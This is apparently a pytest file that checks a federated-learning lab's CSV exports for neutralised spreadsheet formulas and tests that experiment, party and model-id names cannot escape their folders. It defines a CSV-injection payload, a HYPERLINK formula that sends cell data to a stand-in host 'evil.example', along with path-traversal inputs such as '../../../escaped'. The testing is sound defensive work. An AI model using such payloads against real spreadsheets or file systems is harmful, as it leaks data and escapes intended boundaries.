"""What the lab writes is safe to open, and stays inside ``$LAB_HOME``.

CSV cells a spreadsheet would evaluate (``=``, ``+``, ``-``, ``@``, tab, CR) are neutralised in
every CSV the lab writes (one helper, :func:`features.safe_csv.write_csv`); names that become
paths (experiment, feature set, party, model id) cannot point outside the folder they belong to.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pandas as pd
import pytest
import yaml

from features.binning import BinSpec
from features.safe_csv import neutralise, safe_frame, write_csv
from lab.paths import UnsafeNameError, check_component, inside
from models.secureboost.parts import ModelIdError, PlatformPart, RuleSplit, model_file
from tests.conftest import REPO, allow_test_keys, make_vertical, vertical_config

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"details")'


def test_formula_like_text_is_neutralised_and_numbers_are_not() -> None:
    frame = pd.DataFrame(
        {
            FORMULA: ["=1+2", "+cmd", "-x", "@SUM(A1)", "\tTAB", "\rCR", "plain", None],
            "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
            "level": pd.Categorical(["=a", "b", "b", "b", "b", "b", "b", "b"]),
        },
        index=pd.Index(["-i", "j", "k", "l", "m", "n", "o", "p"], name="@idx"),
    )
    out = safe_frame(frame)
    assert list(out.columns) == ["'" + FORMULA, "number", "level"]
    assert out.iloc[:, 0].tolist()[:7] == ["'=1+2", "'+cmd", "'-x", "'@SUM(A1)", "'\tTAB", "'\rCR",
                                          "plain"]  # fmt: skip
    assert pd.isna(out.iloc[7, 0])
    assert out["number"].tolist() == frame["number"].tolist()
    assert out["level"].tolist()[0] == "'=a"
    assert out.index[0] == "'-i"
    assert out.index.name == "'@idx"
    assert neutralise(-2) == -2
    assert neutralise("a=b") == "a=b"


def test_written_file_reads_back_as_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"feature": [FORMULA, "age"], "iv": [0.12, -0.3]})
    path = write_csv(frame, tmp_path / "iv.csv")
    back = pd.read_csv(path)
    assert back["feature"].tolist() == ["'" + FORMULA, "age"]
    assert back["iv"].tolist() == [0.12, -0.3]
    for line in path.read_text().splitlines()[1:]:
        assert not re.match(r'^"?[=+\-@\t\r]', line)


_ALLOWED = {
    "features/safe_csv.py",  # the helper itself
}


def test_every_csv_the_lab_writes_goes_through_the_helper() -> None:
    offenders = []
    for folder in ("lab", "models", "features", "federated", "secure_agg", "benchmarks"):
        for path in (REPO / folder).rglob("*.py"):
            rel = str(path.relative_to(REPO))
            if rel in _ALLOWED:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                code = line.split("#")[0]
                if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", code) and not re.search(
                    r"\bcard\.to_csv\(|def to_csv\(", code
                ):
                    offenders.append(f"{rel}:{number}: {line.strip()}")
    assert not offenders, "write CSV with features.safe_csv.write_csv:\n" + "\n".join(offenders)


def test_the_scorecard_csv_is_neutralised(tmp_path: Path) -> None:
    from features.woe import WoeTable
    from models.scorecard import Scorecard

    woe = WoeTable(
        name=FORMULA,
        party="platform",
        kind="numeric",
        mapping=(0, 1, 2),
        labels=("-inf..1", "+1..inf", "missing"),
        woe=(0.5, -0.4, 0.0),
        total=(10, 20, 0),
        bad=(3, 2, 0),
        iv=0.2,
    )
    card = Scorecard.build([woe], {FORMULA: -0.8}, intercept=-1.0)
    path = card.to_csv(tmp_path / "scorecard.csv")
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    cells = [*table.columns, *table.to_numpy().ravel().tolist()]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert "'-inf..1" in cells
    assert "'+1..inf" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@")) and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.slow
def test_a_platform_column_named_like_a_formula_is_inert_in_every_exported_table(
    tmp_path: Path, lab_home: Path
) -> None:
    from mlflow.tracking import MlflowClient

    from lab.cli import run

    _, platform = make_vertical(tmp_path)
    frame = pd.read_csv(platform)
    frame = frame.rename(columns={"score": FORMULA})
    frame.to_csv(platform, index=False)  # the platform's own input file, not a lab export
    cfg = vertical_config()
    cfg["model"] = {"type": "hetero_lr", "max_epochs": 2, "max_bin": 6, "max_woe_bins": 3}
    cfg["crypto"] = {"key_bits": 512, "insecure_test_keys": True}
    # The platform's node (this home) allows test keys and this tiny job's 150-row batch.
    allow_test_keys(lab_home, "hetero_lr.min_batch_size=64")
    config_path = tmp_path / "experiment.yaml"
    config_path.write_text(yaml.safe_dump(cfg), encoding="utf-8")
    summary_path = tmp_path / "summary.json"
    assert run(["train", str(config_path), "--summary-json", str(summary_path)]) == 0
    run_id = json.loads(summary_path.read_text())["mlflow_run_id"]
    client = MlflowClient(tracking_uri=f"sqlite:///{lab_home / 'mlflow.db'}")
    seen = 0
    for name in ("information_value.csv", "coefficients.csv", "scorecard.csv"):
        local = client.download_artifacts(run_id, f"joint/{name}", str(tmp_path))
        table = pd.read_csv(local, dtype=str, keep_default_na=False)
        cells = [*table.columns, *table.to_numpy().ravel().tolist()]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name
        seen += sum(FORMULA in c for c in cells)
    assert seen >= 3  # the column is named in each table, and nowhere as a formula


def test_names_cannot_become_paths_outside_their_folder(tmp_path: Path) -> None:
    assert inside(tmp_path, "experiment 1") == tmp_path.resolve() / "experiment 1"
    for bad in ("../x", "/etc", "a/../../b", ".."):
        with pytest.raises(UnsafeNameError, match="outside"):
            inside(tmp_path, bad)
    for bad in ("../x", "a/b", "", ".hidden", "a..b"):
        with pytest.raises(UnsafeNameError, match="cannot be used as a folder name"):
            check_component(bad, "party")
    assert check_component("bank_1", "party") == "bank_1"


def test_an_mlflow_experiment_name_cannot_leave_the_artifact_root(lab_home: Path) -> None:
    from lab import tracking

    target = tracking.target_for(None, "../../outside")
    with (
        pytest.raises(UnsafeNameError, match="MLflow experiment"),
        tracking.open_run(target, "r", {}),
    ):
        pass
    assert not (lab_home.parent.parent / "outside").exists()


def test_a_feature_set_version_cannot_leave_the_catalog(lab_home: Path) -> None:
    from lab.governance.catalog import Catalog
    from lab.governance.errors import GovernanceError

    catalog = Catalog()
    assert catalog.entry_path("sme", "1") == (lab_home / "catalog" / "sme" / "1.json").resolve()
    for name, version in (("sme", "../../x"), ("../sme", "1"), ("sme", "a/b")):
        with pytest.raises(GovernanceError):
            catalog.entry_path(name, version)


def test_a_model_id_from_a_message_cannot_name_a_file_elsewhere(tmp_path: Path) -> None:
    part = PlatformPart(
        party="platform",
        model_id="../../../escaped",
        splits={"t0n0": RuleSplit("x", (0,), missing_left=True)},
        bins={"x": BinSpec("x", "numeric", (1.0,))},
        bank="bank_1",
    )
    with pytest.raises(ModelIdError, match="not a plain name"):
        part.save(tmp_path / "store" / "models")
    assert not list(tmp_path.rglob("escaped*"))
    with pytest.raises(ModelIdError):
        model_file(tmp_path, "a..b")
    assert model_file(tmp_path, "sb-1a2b-platform") == tmp_path / "sb-1a2b-platform.json"
